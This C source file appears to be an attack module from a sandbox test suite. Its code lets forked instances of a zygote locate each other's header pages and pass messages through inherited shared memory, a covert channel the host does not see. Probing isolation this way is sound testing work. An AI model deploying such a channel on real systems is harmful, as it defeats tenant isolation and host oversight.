/* Instances of one zygote talking to each other. Each instance is a fork
   of the zygote, so it inherits the zygote's memory: if the zygote's own
   shared region (MAP_SHARED, also mapped by the zygote and by every other
   fork of it) is still mapped there, one instance can leave data in it and
   another read it, a channel between sandboxes that the host never sees.
   `put` writes its input into every header page but its own (its own is
   the one whose state is REQUEST during the call) and answers how many it
   found; `get` answers what is found there ("" if no foreign header). */
#include "attack.h"

#define SLOT 3072 /* past the header's fields, inside its page */
#define MAXMSG 512

/* The header pages within 4 GiB of this code, up to `max`. */
static size_t find_headers(struct mnld_header **found, size_t max) {
    uintptr_t here = (uintptr_t)&find_headers & ~(uintptr_t)(HEADER_PAGE - 1);
    size_t n = 0;
    for (uintptr_t off = 0; off < ((uintptr_t)4 << 30) && n < max; off += HEADER_PAGE) {
        if (attack_is_header(here + off)) found[n++] = (struct mnld_header *)(here + off);
        if (off && off <= here && n < max && attack_is_header(here - off))
            found[n++] = (struct mnld_header *)(here - off);
    }
    return n;
}

static size_t foreign(struct mnld_header **out, size_t max) {
    struct mnld_header *all[8];
    size_t n = find_headers(all, 8), k = 0;
    for (size_t i = 0; i < n && k < max; i++)
        if (__atomic_load_n(&all[i]->state, __ATOMIC_SEQ_CST) != ST_REQUEST) out[k++] = all[i];
    return k;
}

ptrdiff_t put(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    struct mnld_header *f[8];
    size_t k = foreign(f, 8);
    if (n > MAXMSG - 1) n = MAXMSG - 1;
    for (size_t i = 0; i < k; i++) {
        unsigned char *slot = (unsigned char *)f[i] + SLOT;
        memcpy(slot + 1, in, n);
        __atomic_store_n(slot, (unsigned char)n, __ATOMIC_SEQ_CST);
    }
    if (cap < 1) return 0;
    out[0] = (unsigned char)k;
    return 1;
}

ptrdiff_t get(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    (void)in; (void)n;
    struct mnld_header *f[8];
    size_t k = foreign(f, 8);
    for (size_t i = 0; i < k; i++) {
        const unsigned char *slot = (const unsigned char *)f[i] + SLOT;
        size_t len = __atomic_load_n(slot, __ATOMIC_SEQ_CST);
        if (len == 0) continue;
        if (len > cap) len = cap;
        memcpy(out, slot + 1, len);
        return (ptrdiff_t)len;
    }
    return 0;
}
